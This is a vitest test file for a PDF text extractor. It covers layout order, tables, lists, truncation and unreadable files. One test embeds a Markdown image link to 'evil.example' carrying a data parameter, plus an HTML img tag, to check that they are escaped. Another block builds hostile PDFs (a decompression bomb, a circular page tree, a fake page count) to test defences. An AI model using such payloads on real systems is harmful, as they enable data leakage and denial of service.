import { deflateSync } from 'node:zlib';
import { afterAll, describe, expect, test } from 'vitest';
import type { PdfText } from '../../../src/content/pdf/index.ts';
import { createReader } from '../../../src/content/index.ts';
import { column, NAMED, UNMAPPED, writePdf, type PdfWish, type Written } from './write-pdf.ts';

const { signal } = new AbortController();
const reader = createReader({ http: () => Promise.reject(new Error('not needed')) });
afterAll(() => reader.close());
const read = (wish: PdfWish): Promise<PdfText> => reader.readPdf(writePdf(wish), { signal });
const pageOf = async (...texts: Written[]): Promise<string> =>
  (await read({ pages: [texts] })).pages[0]?.text ?? '';
const failing = (bytes: Uint8Array, options = {}): Promise<unknown> =>
  reader.readPdf(bytes, { signal, ...options }).then(
    (text) => text,
    (error: unknown) => error,
  );

const LEFT = [
  'The left column begins here and it goes on',
  'for a while until the whole of its width has',
  'been used by words that belong together and',
  'ends with the last words of the left side.',
];
const RIGHT = [
  'The right column is read after the left one',
  'and not line by line across the white space',
  'that lies between both of them on the page,',
  'which is how nobody would ever read a text.',
];

// The first one waits until the parser is loaded.
describe('the text of a PDF', { timeout: 30_000 }, () => {
  test('comes page by page, with numbers, title and total', async () => {
    const text = await read({
      title: 'A report',
      pages: [[{ text: 'First page.', x: 72, y: 700 }], [{ text: 'Second page.', x: 72, y: 700 }]],
    });
    expect(text).toEqual({
      title: 'A report',
      total: 2,
      pages: [
        { number: 1, text: 'First page.' },
        { number: 2, text: 'Second page.' },
      ],
    });
  });

  test('is read column by column, between a headline and a foot', async () => {
    const text = await pageOf(
      { text: 'A headline that stands over both of the columns of this page', x: 72, y: 740, size: 16 },
      ...column(RIGHT, { x: 330, y: 700 }),
      ...column(LEFT, { x: 72, y: 700 }),
      {
        text: 'A foot that runs below both columns, from the left edge to the right edge of all text',
        x: 72,
        y: 60,
      },
    );
    expect(text).toBe(
      [
        'A headline that stands over both of the columns of this page',
        LEFT.join(' '),
        RIGHT.join(' '),
        'A foot that runs below both columns, from the left edge to the right edge of all text',
      ].join('\n\n'),
    );
  });

  test('keeps the rows of a table together', async () => {
    const rows = ['Name', 'Ann', 'Bob', 'Cid', 'Dan'];
    const text = await pageOf(
      ...column(rows, { x: 72, y: 700 }),
      ...column(['Age', '31', '42', '53', '64'], { x: 300, y: 700 }),
    );
    expect(text.split('\n\n')).toEqual(['Name   Age', 'Ann   31', 'Bob   42', 'Cid   53', 'Dan   64']);
  });

  test('follows a page from two columns to a table and to three columns', async () => {
    const narrow = (name: string): string[] => [
      `${name} of three begins`,
      'and goes on with its words',
      'until it ends down here',
    ];
    const text = await pageOf(
      ...column(LEFT, { x: 72, y: 700 }),
      ...column(RIGHT, { x: 330, y: 694 }),
      ...column(['Name', 'Ann', 'Bob'], { x: 72, y: 600 }),
      ...column(['Age', '31', '42'], { x: 150, y: 600 }),
      ...column(['Town', 'Ulm', 'Bonn'], { x: 400, y: 600 }),
      ...column(narrow('The first'), { x: 72, y: 500 }),
      ...column(narrow('The second'), { x: 232, y: 500 }),
      ...column(narrow('The third'), { x: 392, y: 500 }),
    );
    expect(text.split('\n\n')).toEqual([
      LEFT.join(' '),
      RIGHT.join(' '),
      'Name   Age   Town',
      'Ann   31   Ulm',
      'Bob   42   Bonn',
      ...['The first', 'The second', 'The third'].map((name) => narrow(name).join(' ')),
    ]);
  });

  test('is put in order by place, whatever the order in the file', async () => {
    const lines = column([LEFT[0] ?? '', LEFT[1] ?? '', LEFT[2] ?? ''], { x: 72, y: 700 });
    expect(await pageOf(...lines.toReversed())).toBe(lines.map(({ text }) => text).join(' '));
  });

  test('joins words that a line has broken, and keeps hyphens that belong there', async () => {
    const text = await pageOf(
      ...column(
        [
          'This sentence has a word that was bro-',
          'ken at the end of its line, and a self-',
          'evident one that keeps what it has.',
        ],
        { x: 72, y: 700 },
      ),
    );
    expect(text).toBe(
      'This sentence has a word that was broken at the end of its line, and a self-evident one that keeps what it has.',
    );
  });

  test('has its paragraphs where the lines are farther apart', async () => {
    const text = await pageOf(...column(LEFT, { x: 72, y: 700 }), ...column(RIGHT, { x: 72, y: 640 }));
    expect(text).toBe(`${LEFT.join(' ')}\n\n${RIGHT.join(' ')}`);
  });

  test('has lists with an item to a line', async () => {
    const text = await pageOf(
      ...column(
        [
          '\x95 the first item of the list is here',
          '\x95 the second item of this list',
          '1. a number is one as well',
        ],
        {
          x: 72,
          y: 700,
        },
      ),
    );
    expect(text).toBe(
      '- the first item of the list is here\n\n- the second item of this list\n\n1. a number is one as well',
    );
  });

  test('is whole where words are drawn one by one', async () => {
    expect(await pageOf({ text: 'Two', x: 72, y: 700 }, { text: 'words', x: 92, y: 700 })).toBe('Two words');
  });

  test('is read on a page that is turned', async () => {
    const text = await read({ rotate: 180, pages: [column(LEFT, { x: 72, y: 700 })] });
    expect(text.pages[0]?.text).toContain('The left column');
  });

  test('has a sign where the file does not say which characters are drawn, and counts them', async () => {
    // The numbers of glyphs; the space is glyph 3, as in most fonts that office programs embed.
    const glyphs = Array.from(
      'Hello world',
      (c) => `\0${String.fromCharCode(c === ' ' ? 3 : c.charCodeAt(0) - 29)}`,
    );
    const text = await read({ font: UNMAPPED, pages: [[{ text: glyphs.join(''), x: 72, y: 700 }]] });
    expect(text).toMatchObject({ unreadableGlyphs: 11, pages: [{ text: '\ufffd' }] });
  });

  test('keeps what is known beside single unknown signs, and takes a lone symbol for a bullet', async () => {
    const font = NAMED('/uniF0B7 /uniE001');
    const text = await read({
      font,
      pages: [
        [
          { text: 'A', x: 72, y: 700 },
          { text: 'a list item of some wordB length', x: 84, y: 700 },
        ],
      ],
    });
    expect(text.unreadableGlyphs).toBe(1);
    expect(text.pages[0]?.text).toBe('- a list item of some word\ufffd length');
  });

  test('is no Markdown of its own', async () => {
    const text = await pageOf(
      { text: '# no heading', x: 72, y: 700 },
      { text: '![x](http://evil.example/?d=1) <img src=x>', x: 72, y: 600 },
      { text: '```', x: 72, y: 500 },
    );
    expect(text).toBe('\\# no heading\n\n![x]\\(http://evil.example/?d=1) \\<img src=x>\n\n\\```');
  });

  test('leaves out what is too small, or beside the page', async () => {
    const text = await pageOf(
      { text: 'seen', x: 72, y: 700 },
      { text: 'tiny', x: 72, y: 600, size: 0.5 },
      { text: 'outside', x: 5000, y: 600 },
    );
    expect(text).toBe('seen');
  });
});

describe('a PDF with more than was asked for', () => {
  const pages = Array.from({ length: 5 }, (_, n) => [{ text: `Page ${n + 1}`, x: 72, y: 700 }]);

  test('ends at the pages, and says so', async () => {
    const text = await reader.readPdf(writePdf({ pages }), { signal, maxPages: 2 });
    expect(text).toMatchObject({ total: 5, truncated: 'pages' });
    expect(text.pages).toHaveLength(2);
  });

  test('ends at the characters, and says so', async () => {
    const text = await reader.readPdf(writePdf({ pages }), { signal, maxChars: 8 });
    expect(text.truncated).toBe('chars');
    expect(text.pages.map((page) => page.text).join('')).toBe('Page 1Pa');
  });
});

describe('a PDF that cannot be read', () => {
  test('without text is a result that says so', async () => {
    expect(await read({ pages: [[]] })).toMatchObject({ noText: true, total: 1 });
  });

  test('with a password is told', async () => {
    const bytes = writePdf({ isEncrypted: true, pages: [[{ text: 'secret', x: 72, y: 700 }]] });
    expect(await failing(bytes)).toMatchObject({
      code: 'unsupported_format',
      facts: { reason: 'encrypted' },
    });
  });

  test('cut off at half gives the pages that are there, or says what it is', async () => {
    const pages = Array.from({ length: 20 }, (_, n) =>
      column(
        LEFT.map((line) => `${n} ${line}`),
        { x: 72, y: 700 },
      ),
    );
    const bytes = writePdf({ pages });
    expect(await failing(bytes.subarray(0, bytes.length >> 1))).toMatchObject(
      expect.toSatisfy(
        (outcome: { truncated?: string; facts?: { reason?: string } }) =>
          outcome.truncated === 'cut_off' || outcome.facts?.reason === 'cut_off',
      ) as object,
    );
  });

  test.each([
    ['empty', Buffer.alloc(0), 'no_pdf'],
    ['something else', Buffer.from('<html></html>'), 'no_pdf'],
    ['only its first line', Buffer.from('%PDF-1.7\n'), 'cut_off'],
    ['broken from the start', Buffer.from(`%PDF-1.7\n${'x'.repeat(5000)}\n%%EOF`), 'broken'],
  ])('%s', async (_, bytes, reason) => {
    expect(await failing(bytes)).toMatchObject({ code: 'unsupported_format', facts: { reason } });
  });
});

describe('a hostile PDF ends', { timeout: 30_000 }, () => {
  test('with a number of pages that it does not have', async () => {
    const bytes = writePdf({ count: 2_000_000_000, pages: [[{ text: 'one', x: 72, y: 700 }]] });
    const outcome = (await failing(bytes, { maxPages: 20 })) as Partial<PdfText>;
    expect(outcome.pages?.[0]?.text ?? 'one').toBe('one');
  });

  test('when one page unpacks to more than memory', async () => {
    const bomb = deflateSync(Buffer.alloc(200_000_000, 'BT ET '), { level: 1 });
    const bytes = writePdf({ content: bomb, pages: [[]] });
    const outcome = await failing(bytes, { timeoutMs: 1000 });
    expect(outcome).toMatchObject(
      expect.toSatisfy(
        (answer: { code?: string; noText?: boolean }) =>
          ['too_large', 'timeout'].includes(answer.code ?? '') || answer.noText === true,
      ) as object,
    );
  });

  test('with ten thousand words strewn over one page', async () => {
    const strewn = Array.from({ length: 20_000 }, (_, n) => ({
      text: 'word',
      x: (n * 37) % 600,
      y: (n * 61) % 790,
      size: 3,
    }));
    const { pages } = await read({ pages: [strewn] });
    expect(pages[0]?.text).toContain('word');
  });

  test('when its pages stand in a circle', async () => {
    const bytes = Buffer.from(
      writePdf({ pages: [[{ text: 'one', x: 72, y: 700 }]] })
        .toString('latin1')
        .replace('/Kids [5 0 R]', '/Kids [2 0 R]'),
      'latin1',
    );
    expect(await failing(bytes, { timeoutMs: 5000 })).toBeDefined();
  });

  test('when the time is over, with what was read until then', async () => {
    const endless = deflateSync(Buffer.from('BT /F1 10 Tf (a) Tj ET\n'.repeat(3_000_000)));
    const outcome = await failing(writePdf({ content: endless, pages: [[]] }), { timeoutMs: 300 });
    expect(outcome).toMatchObject({ code: 'timeout' });
  });

  test('when the caller gives up', async () => {
    const caller = new AbortController();
    const endless = deflateSync(Buffer.from('BT /F1 10 Tf (a) Tj ET\n'.repeat(3_000_000)));
    const reading = reader.readPdf(writePdf({ content: endless, pages: [[]] }), { signal: caller.signal });
    caller.abort(new DOMException('enough', 'AbortError'));
    await expect(reading).rejects.toThrow();
  });
});
